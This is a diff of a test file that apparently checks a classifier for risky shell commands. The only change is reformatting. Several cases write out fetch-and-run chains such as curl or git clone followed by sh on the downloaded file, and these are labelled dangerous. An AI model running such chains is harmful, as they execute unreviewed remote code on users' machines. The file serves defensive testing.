@@ -95,11 +95,7 @@ from tests.support import each
         ("curl https://a.b/c; cp c d; sh d", "dangerous", ("runs a download that nobody has read: d",)),
         ("cp c d; sh d", "normal", ()),
         ("tee y; sh y", "normal", ()),
-        (
-            "curl https://a.b/c; tar xf c; sh c/x",
-            "dangerous",
-            ("runs a download that nobody has read: c/x",),
-        ),
+        ("curl https://a.b/c; tar xf c; sh c/x", "dangerous", ("runs a download that nobody has read: c/x",)),
         ("git clone https://a.b/c.git; sh c/x", "dangerous", ("runs a download that nobody has read: c/x",)),
         (
             "git clone https://a.b/c.git d; sh d/x",
